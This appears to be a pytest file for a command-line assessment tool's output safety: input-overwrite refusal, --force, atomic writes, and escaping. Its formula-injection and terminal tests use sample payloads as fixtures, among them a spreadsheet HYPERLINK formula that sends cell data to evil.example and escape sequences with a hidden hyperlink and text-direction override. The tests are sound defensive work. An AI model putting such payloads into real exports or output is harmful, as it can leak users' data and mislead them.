"""The command line's outputs never destroy data (issue 11, the output side).

* an output that is an input — by the same path, a symbolic link or a hard link — is refused
  before anything is read, for every format and command;
* replacing a file that is not empty needs ``--force`` (the template over a filled workbook);
* files are written atomically: a write that fails (a file-size limit, a full disk) leaves the
  previous file whole, no temporary file behind, and a non-zero exit;
* CSV and XLSX exports neutralise formula injection; terminal output escapes control characters
  and never reads rich markup in data.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

pytest.importorskip("click")
openpyxl = pytest.importorskip("openpyxl")

HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:  # --import-mode=importlib: make the sibling module importable
    sys.path.insert(0, str(HERE))

from cli_support import Cli, team_facts  # noqa: E402


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    return Cli(tmp_path)


# ----------------------------------------------------------------------------- output is input
@pytest.mark.parametrize(
    "command",
    [
        ["evaluate", "{facts}", "-o", "{out}"],
        ["evaluate", "{facts}", "--format", "csv", "-o", "{out}"],
        ["evaluate", "{facts}", "--format", "xlsx", "-o", "{out}"],
        ["report", "{facts}", "-o", "{out}"],
        ["report", "--html", "{out}", "{facts}"],
        ["explain", "micro", "{facts}", "-o", "{out}"],
    ],
)
@pytest.mark.parametrize("how", ["same path", "symlink", "hard link", "other spelling"])
def test_an_output_that_is_an_input_is_refused(cli, command, how, tmp_path):
    before = cli.facts.read_bytes()
    if how == "same path":
        out = cli.facts
    elif how == "symlink":
        out = tmp_path / "ranking.json"
        out.symlink_to(cli.facts)
    elif how == "hard link":
        out = tmp_path / "ranking.json"
        os.link(cli.facts, out)
    else:
        out = tmp_path / "." / "sub" / ".." / "facts.json"
        (tmp_path / "sub").mkdir()
    argv = [a.format(facts=cli.facts, out=out) for a in command]
    result = cli.run(*argv, "--force")  # not even --force overwrites an input
    assert result.exit_code == 2, result.output
    assert "is also an input (FACTS)" in result.stderr
    assert cli.facts.read_bytes() == before


def test_other_inputs_are_protected_too(cli, tmp_path):
    rules = Path(cli.rules.partition(":")[0])
    before = rules.read_bytes()
    result = cli.run("evaluate", str(cli.facts), "-o", str(rules), "--format", "csv", "--force")
    assert result.exit_code == 2
    assert "is also an input (--plugin)" in result.stderr
    assert rules.read_bytes() == before
    problems = cli.run("evaluate", str(tmp_path / "nope.json"), "--problems-file", str(rules))
    assert problems.exit_code == 3
    assert "cannot be written" in problems.stderr
    assert rules.read_bytes() == before


# ----------------------------------------------------------------------------- --force
def test_a_filled_template_is_not_replaced_without_force(cli, tmp_path):
    template = tmp_path / "facts-2024.xlsx"
    assert cli.run("template", "-o", str(template)).exit_code == 0
    book = openpyxl.load_workbook(template)
    for number in range(30):
        book["team"].append([f"t{number}", 2024, f"班组{number}", "食品所", 3])
    book.save(template)
    filled = template.read_bytes()
    result = cli.run("template", "-o", str(template))
    assert result.exit_code == 2
    assert "already exists and is not empty (a workbook with 30 filled rows); --force" in (
        result.stderr
    )
    assert template.read_bytes() == filled
    assert cli.run("template", "-o", str(template), "--force").exit_code == 0
    assert openpyxl.load_workbook(template)["team"].max_row == 1


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".json", ".txt", ".html"])
def test_every_output_file_needs_force_to_be_replaced(cli, tmp_path, suffix):
    out = tmp_path / f"out{suffix}"
    out.write_text("precious\n", encoding="utf-8")
    command = "report" if suffix == ".html" else "evaluate"
    result = cli.run(command, str(cli.facts), "-o", str(out))
    assert result.exit_code == 2
    assert out.read_text(encoding="utf-8") == "precious\n"
    assert cli.run(command, str(cli.facts), "-o", str(out), "--force").exit_code == 0
    assert out.read_text(encoding="utf-8", errors="replace") != "precious\n"
    empty = tmp_path / f"empty{suffix}"
    empty.touch()  # an empty file is replaced without --force
    assert cli.run(command, str(cli.facts), "-o", str(empty)).exit_code == 0


def test_a_symlink_output_is_written_through(cli, tmp_path):
    real = tmp_path / "real.csv"
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert cli.run("evaluate", str(cli.facts), "-o", str(link)).exit_code == 0
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8").startswith("rank,team")


def test_a_device_output_is_written_directly(cli):
    assert cli.run("evaluate", str(cli.facts), "-o", os.devnull, "--format", "csv").exit_code == 0
    assert Path(os.devnull).exists()


# ----------------------------------------------------------------------------- atomic writes
_LIMITED = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
from assessment_engine.cli import main
main(sys.argv[1:], prog_name="assessment-engine")
"""


@pytest.mark.skipif(not hasattr(os, "setrlimit") and sys.platform == "win32", reason="POSIX")
@pytest.mark.parametrize("suffix", [".json", ".xlsx", ".html"])
def test_a_write_that_fails_leaves_the_previous_file_whole(cli, tmp_path, suffix):
    out = tmp_path / f"previous{suffix}"
    command = "report" if suffix == ".html" else "evaluate"
    assert cli.run(command, str(cli.facts), "-o", str(out)).exit_code == 0
    good = out.read_bytes()
    assert len(good) > 4096  # the limit below cuts the new file short
    args = [command, str(cli.facts), "-o", str(out), "--force", "--no-entry-points"]
    args += ["--plugin", cli.rules, "--matcher", "python"]
    done = subprocess.run(
        [sys.executable, "-c", _LIMITED, *args], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 3, done.stderr
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith(f"error: {out}: File too large")
    assert out.read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir() if ".partial" in p.name) == []


def test_standard_output_that_cannot_be_written_is_an_error(cli):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    args = ["evaluate", str(cli.facts), "--format", "csv", "--no-entry-points"]
    args += ["--plugin", cli.rules, "--matcher", "python"]
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "assessment_engine.cli", *args],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    assert done.returncode == 3, done.stderr
    assert "No space left on device" in done.stderr
    assert "Traceback" not in done.stderr


# ----------------------------------------------------------------------------- formula injection
HOSTILE_DEPARTMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
HOSTILE_NAMES = ["+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "＝1+1"]


def test_csv_export_neutralises_formulas(tmp_path):
    cli = Cli(tmp_path, team_facts(name="@SUM(A1:A9)", department=HOSTILE_DEPARTMENT))
    out = tmp_path / "ranking.csv"
    assert cli.run("evaluate", str(cli.facts), "-o", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    micro = next(r for r in rows if r["team"] == "micro")
    assert micro["department"] == "'" + HOSTILE_DEPARTMENT
    assert micro["name"] == "'@SUM(A1:A9)"
    assert micro["composite"] == "19"  # numbers stay numbers
    from assessment_engine._base.sheets import csv_text

    for name in HOSTILE_NAMES:
        assert csv_text(name) == "'" + name
    assert csv_text("食品所") == "食品所"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_xlsx_export_stores_text_as_text(tmp_path, name):
    cli = Cli(tmp_path, team_facts(name=name, department=HOSTILE_DEPARTMENT))
    out = tmp_path / "ranking.xlsx"
    assert cli.run("evaluate", str(cli.facts), "-o", str(out)).exit_code == 0
    with zipfile.ZipFile(out) as archive:
        for entry in archive.namelist():
            if entry.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(entry), entry  # no formula anywhere
    book = openpyxl.load_workbook(out)
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == HOSTILE_DEPARTMENT:
                    found += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
                if cell.value == name.replace("\t", "\\x09"):
                    assert cell.data_type == "s"
    assert found == 1  # the ranking's department column


def test_xlsx_keeps_control_characters_visible():
    from assessment_engine._base.sheets import xlsx_text

    assert xlsx_text("a\x1b[2Jb\x07") == "a\\x1b[2Jb\\x07"
    assert xlsx_text("ok\n") == "ok\n"


# ----------------------------------------------------------------------------- terminal text
ESCAPES = "食品所\x1b[2J\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b31m\u202eevil"


@pytest.mark.parametrize(
    "command",
    [
        ["evaluate", "{facts}"],
        ["explain", "micro", "{facts}", "--max-changes", "0"],
    ],
)
def test_terminal_output_escapes_control_characters(tmp_path, command):
    cli = Cli(tmp_path, team_facts(name=ESCAPES, department="[bold red]部门[/]"))
    result = cli.run(*[a.format(facts=cli.facts) for a in command])
    assert result.exit_code == 0, result.output
    out = result.stdout
    for raw in ("\x1b", "\x9b", "\u202e", "\x07"):
        assert raw not in out
    assert "\\x1b[2J" in out
    assert "\\x1b]8;;http://evil.example" in out
    assert "\\u202eevil" in out
    assert "[bold red]部门[/]" in out  # rich markup in data is printed as it is


def test_error_messages_escape_control_characters(cli, tmp_path):
    bad = tmp_path / "bad\x1b[2J.json"
    result = cli.run("evaluate", str(bad))
    assert result.exit_code == 3
    assert "\x1b" not in result.stderr
    assert "bad\\x1b[2J.json" in result.stderr
    from assessment_engine.cli._output import safe, safe_json

    assert safe("a\nb") == "a\\x0ab"
    assert safe("a\nb", lines=True) == "a\nb"
    assert safe_json('"\x9b\u202e"') == '"\\u009b\\u202e"'
